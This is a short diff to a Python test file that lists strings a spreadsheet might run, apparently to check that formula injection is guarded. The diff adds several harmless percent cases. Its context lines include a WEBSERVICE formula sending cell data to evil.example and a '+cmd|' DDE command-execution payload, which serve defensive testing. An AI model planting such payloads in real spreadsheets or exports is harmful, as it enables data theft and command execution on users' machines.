@@ -107,7 +107,8 @@ def test_one_number_or_one_target_stays_bare(monkeypatch, text):
         '=WEBSERVICE("http://evil.example/?"&E6)', "=1+1", "-2+3", "=1-2", "-3~5", "=1*1", "=1&1", "=A1", "=5km", "=5k",
         "=1(个)", "=1（个）", "=5“个”", "=5'个'", "+cmd|' /C calc'!A0", "+cmd|=1", "@SUM=1", "@1", "-", "--", "+个",
         "＝HYPERLINK(1)", "＋1＋1", "－1－1", "＠SUM(1)", "﹦A1", " =1+1", "\u3000=A1", "\n=A1", "\r\n+A1", "\t=1",
-        "\u200b=A1",        "\ufeff=A1", "=1\n2", "=1 2", "\xa0-A1", "=5!个", "=5|个", "=5^个", "=ｋ１", "=5ｋｍ",
+        "\u200b=A1", "=95.5%(0.955)", "=100%（1）", "-1(x)",
+        "\ufeff=A1", "=1\n2", "=1 2", "\xa0-A1", "=5!个", "=5|个", "=5^个", "=ｋ１", "=5ｋｍ",
     ],
 )  # fmt: skip
 def test_everything_else_that_a_spreadsheet_may_run_is_guarded(monkeypatch, text):
